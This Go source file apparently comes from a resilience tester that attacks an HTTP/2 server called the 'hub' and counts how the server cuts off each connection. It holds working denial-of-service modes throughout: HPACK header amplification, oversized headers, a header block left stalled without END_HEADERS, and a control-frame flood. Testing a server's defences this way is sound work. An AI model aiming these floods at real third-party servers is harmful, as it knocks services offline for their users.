package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2conn is one attacking connection: a framer whose writes the reader
// shares (it acknowledges SETTINGS) and how the connection ended.
type h2conn struct {
	c       *tls.Conn
	fr      *http2.Framer
	mu      sync.Mutex
	ended   chan struct{}
	acked   chan struct{} // closed once the hub's first SETTINGS is acknowledged
	ackOnce sync.Once
	goaway  atomic.Bool
	byHub   atomic.Bool
	enc     *hpack.Encoder
	hb      bytes.Buffer
	nextSID uint32
}

// attack runs c.mode on one connection until the attack's end or the hub
// ends the connection, and counts how it ended.
func attack(tc *tls.Conn, c *config, s *stats) {
	h := &h2conn{c: tc, fr: http2.NewFramer(tc, tc), ended: make(chan struct{}), acked: make(chan struct{}), nextSID: 1}
	h.enc = hpack.NewEncoder(&h.hb)
	defer func() {
		_ = tc.Close()
		<-h.ended
		switch {
		case h.goaway.Load():
			s.goaways.Add(1)
		case h.byHub.Load():
			s.closed.Add(1)
		}
	}()
	if _, err := tc.Write([]byte(http2.ClientPreface)); err != nil {
		h.byHub.Store(true)
		close(h.ended)
		return
	}
	go h.read(c.end)
	if !h.write(func(fr *http2.Framer) error { return fr.WriteSettings() }) {
		return
	}
	// The hub's SETTINGS are acknowledged before any block: an ack
	// between a HEADERS and its CONTINUATION is a protocol error, which
	// would end the connection by a GOAWAY instead of the attack.
	select {
	case <-h.acked:
	case <-h.ended:
		return
	}
	switch c.mode {
	case "hpackamp":
		amp := hpack.HeaderField{Name: "x-amp", Value: strings.Repeat("a", 4000)}
		if !h.request(c, s, amp) {
			return
		}
		refs := make([]hpack.HeaderField, c.refs)
		for i := range refs {
			refs[i] = amp
		}
		for h.alive(c.end) && h.request(c, s, refs...) {
		}
	case "bighdr":
		big := hpack.HeaderField{Name: "x-big", Value: strings.Repeat("b", c.hsize), Sensitive: true}
		for h.alive(c.end) && h.request(c, s, big) {
		}
	case "stallhdr":
		// One literal field of -hsize bytes, never indexed, in a block
		// whose END_HEADERS never comes.
		if c.requestFirst && !h.request(c, s) {
			return
		}
		h.hb.Reset()
		for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
			{Name: ":authority", Value: c.addr}, {Name: ":path", Value: c.path},
			{Name: "x-big", Value: strings.Repeat("b", c.hsize), Sensitive: true}} {
			_ = h.enc.WriteField(f)
		}
		if h.sendBlock(h.sid(), h.hb.Bytes(), false) {
			s.blocks.Add(1)
			select {
			case <-h.ended:
			case <-time.After(time.Until(c.end)):
			}
		}
	case "ctrlflood":
		for i := uint32(0); h.alive(c.end); i++ {
			ok := h.write(func(fr *http2.Framer) error {
				switch i % 4 {
				case 0:
					return fr.WriteSettings()
				case 1:
					return fr.WritePing(false, [8]byte{byte(i)})
				case 2:
					return fr.WriteWindowUpdate(0, 1)
				default:
					return fr.WritePriority(2*i+1, http2.PriorityParam{Weight: 15})
				}
			})
			if !ok {
				return
			}
			s.frames.Add(1)
		}
	}
}

// request sends one GET whose header block ends with extra.
func (h *h2conn) request(c *config, s *stats, extra ...hpack.HeaderField) bool {
	h.hb.Reset()
	fields := []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: c.addr}, {Name: ":path", Value: c.path}}
	if c.token != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + c.token})
	}
	for _, f := range append(fields, extra...) {
		_ = h.enc.WriteField(f)
	}
	if !h.sendBlock(h.sid(), h.hb.Bytes(), true) {
		return false
	}
	s.blocks.Add(1)
	return true
}

func (h *h2conn) sid() uint32 {
	id := h.nextSID
	h.nextSID += 2
	return id
}

// sendBlock sends b in HEADERS and CONTINUATION frames of 16 KiB, under
// one hold of the write lock (nothing may come between them).
func (h *h2conn) sendBlock(sid uint32, b []byte, end bool) bool {
	return h.write(func(fr *http2.Framer) error {
		first := true
		for first || len(b) > 0 {
			n := min(16<<10, len(b))
			last := n == len(b)
			var err error
			if first {
				err = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: sid, BlockFragment: b[:n], EndStream: true, EndHeaders: last && end})
			} else {
				err = fr.WriteContinuation(sid, last && end, b[:n])
			}
			if err != nil {
				return err
			}
			b, first = b[n:], false
		}
		return nil
	})
}

// write runs w on the framer; false once the connection is gone (the
// hub closed it under the writes).
func (h *h2conn) write(w func(fr *http2.Framer) error) bool {
	h.mu.Lock()
	err := w(h.fr)
	h.mu.Unlock()
	if err != nil {
		if !h.goaway.Load() {
			h.byHub.Store(true)
		}
		return false
	}
	return true
}

func (h *h2conn) alive(end time.Time) bool {
	select {
	case <-h.ended:
		return false
	default:
		return time.Now().Before(end)
	}
}

// read discards what the hub sends, acknowledges its SETTINGS, and notes
// how the connection ended.
func (h *h2conn) read(end time.Time) {
	defer close(h.ended)
	for {
		f, err := h.fr.ReadFrame()
		if err != nil {
			if !errors.Is(err, net.ErrClosed) && time.Now().Before(end) && !h.goaway.Load() {
				h.byHub.Store(true)
			}
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				h.write(func(fr *http2.Framer) error { return fr.WriteSettingsAck() })
				h.ackOnce.Do(func() { close(h.acked) })
			}
		case *http2.GoAwayFrame:
			h.goaway.Store(true)
		}
	}
}
